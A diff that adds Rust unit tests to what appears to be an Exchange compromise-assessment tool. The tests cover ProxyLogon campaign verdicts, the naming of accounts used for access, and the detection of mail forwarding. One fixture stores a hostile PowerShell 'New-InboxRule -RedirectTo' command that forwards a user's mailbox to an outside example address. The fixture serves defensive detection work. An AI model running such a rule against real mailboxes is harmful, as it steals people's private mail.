@@ -119,3 +119,64 @@ fn indicators_of_a_campaign_that_does_not_count_are_mentioned() {
     assert_eq!(assessment.verdict, Verdict::NoEvidence);
     assert!(said(&assessment).contains("Published indicators of the dearcry matter match"), "{}", said(&assessment));
 }
+
+#[test]
+fn no_update_of_another_way_in_ends_an_aftermath() {
+    let mut builder = Builder::new().covered();
+    builder.observations.campaigns.push(other("module", CampaignKind::Aftermath));
+    let rule = builder.rule("module/rule", Stage::Control, Proves::Execution);
+    builder.observations.rules[rule].campaign = Some("module".to_owned());
+    // After the update of ProxyLogon, of which nothing was found.
+    builder.see(sighting(rule, "windows/Security", "2021-03-09T04:00:00Z"));
+    let over = builder.assess().servers[0].answers.over.answer.clone();
+    assert!(!over.contains("no use of the foothold is seen after it"), "{over}");
+}
+
+#[test]
+fn attempts_that_look_the_same_speak_for_both() {
+    let mut builder = Builder::new().covered();
+    let mut earlier = campaign();
+    (earlier.id, earlier.name) = ("earlier".to_owned(), "Earlier".to_owned());
+    earlier.first_use = None;
+    earlier.resembles = vec!["proxylogon".to_owned()];
+    builder.observations.campaigns.push(earlier);
+    hit(&mut builder, "earlier", Stage::Access, Proves::Attempt);
+    let assessment = builder.assess();
+    let of =
+        |id: &str| exposed(&assessment).into_iter().find(|(campaign, _)| *campaign == id).map(|(_, verdict)| verdict);
+    assert_eq!(of("proxylogon"), Some(Verdict::Targeted));
+    assert!(said(&assessment).contains("ProxyLogon: attempts were seen that look the same"), "{}", said(&assessment));
+}
+
+#[test]
+fn a_way_in_that_needs_a_password_names_whose() {
+    let mut builder = Builder::new().covered();
+    builder.observations.campaigns[0].authenticated = true;
+    let rule = builder.rule("proxylogon/shell", Stage::Access, Proves::Success);
+    let mut one = sighting(rule, "iis/W3SVC1", IN_WINDOW);
+    one.client = Some("203.0.113.7".to_owned());
+    builder.see(one.clone());
+    let entry = |builder: &Builder| builder.assess().servers[0].answers.entry.answer.clone();
+    assert!(entry(&builder).contains("no record names whose"), "{}", entry(&builder));
+    one.account = Some("CORP\\alice".to_owned());
+    builder.server().sightings = vec![one];
+    assert!(entry(&builder).contains("it was used as CORP\\alice"), "{}", entry(&builder));
+    let next = builder.assess().servers[0].answers.next.answer.clone();
+    assert!(next.contains("Set new passwords for CORP\\alice"), "{next}");
+}
+
+#[test]
+fn mail_that_is_sent_on_is_mail_of_somebody() {
+    let mut builder = Builder::new().covered();
+    let exploit = builder.rule("proxylogon/written", Stage::Access, Proves::Success);
+    builder.see(sighting(exploit, "httpproxy/Ecp", IN_WINDOW));
+    let forward = builder.rule("exchange-host/mail-forward-event", Stage::Exfiltration, Proves::Context);
+    builder.observations.rules[forward].attack = vec!["T1114.003".to_owned()];
+    let mut one = sighting(forward, "windows/MSExchange Management", IN_WINDOW);
+    one.subject = Some("-RedirectTo @(\"x@zz.example\") -Mailbox \"victor\"".to_owned());
+    one.evidence[0].raw = b"New-InboxRule -RedirectTo @(\"x@zz.example\") -Mailbox \"victor\"".to_vec().into();
+    builder.see(one);
+    let server = &builder.assess().servers[0];
+    assert_eq!((server.mailboxes[0].mailbox.as_str(), server.mailboxes[0].how.as_str()), ("victor", "forwarding"));
+    assert_eq!(server.persistence[0].name, "of victor");
+}
